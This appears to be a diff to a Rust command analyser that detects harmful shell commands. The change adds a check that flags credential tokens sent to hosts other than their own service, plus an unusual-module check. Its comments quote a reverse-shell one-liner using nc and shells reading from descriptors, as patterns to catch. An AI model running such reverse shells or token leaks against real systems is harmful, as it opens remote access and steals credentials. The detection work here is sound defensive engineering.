@@ -167,6 +167,7 @@ pub(crate) fn walk(command: &str, env: &HashMap<String, String>) -> Vec<Found> {
 /// reads a pipe (`sh -i < f 2>&1 | nc HOST PORT > f`).
 fn mark_network(found: &mut [Found]) {
     let secret = found.iter().any(harm::reads_secret);
+    let tokens: Vec<&[&str]> = found.iter().filter_map(harm::token_service).collect();
     let piped_shell = found.iter().any(|one| {
         one.stdin == Stdin::Pipe
             && one
@@ -194,7 +195,13 @@ fn mark_network(found: &mut [Found]) {
         let sends = one.each_form().any(|form| harm::sends(one, form));
         // A credential helper is handed the credentials on its input.
         let helper = one.via.iter().any(|via| via.contains("credential"));
-        one.exfiltrates = (secret || helper) && sends;
+        // A token sent to the service it is for is its everyday use (`gh auth token` to
+        // api.github.com); to any other host it leaves.
+        let token_leaves = tokens.iter().any(|domains| {
+            !one.each_form()
+                .any(|form| harm::sends_only_to(form, domains))
+        });
+        one.exfiltrates = (secret || helper || token_leaves) && sends;
         // A shell whose input is a descriptor opened elsewhere (`zsh 0>&$REPLY`, `sh <&3`)
         // on a line that opens a raw connection.
         let shell = one
@@ -813,6 +820,7 @@ impl Walker<'_> {
                 .or_else(|| builtin::file_system_on_unknown_device(&found))
                 .or_else(|| harm::startup_write_unseen(&found))
                 .or_else(|| harm::climbs_out(&found))
+                .or_else(|| harm::unusual_module(&found))
                 .or_else(|| harm::deletes_working_directory(&found))
                 .or_else(|| runners::unseen_package(&found))
                 .or_else(|| harm::remote_ask(&found));
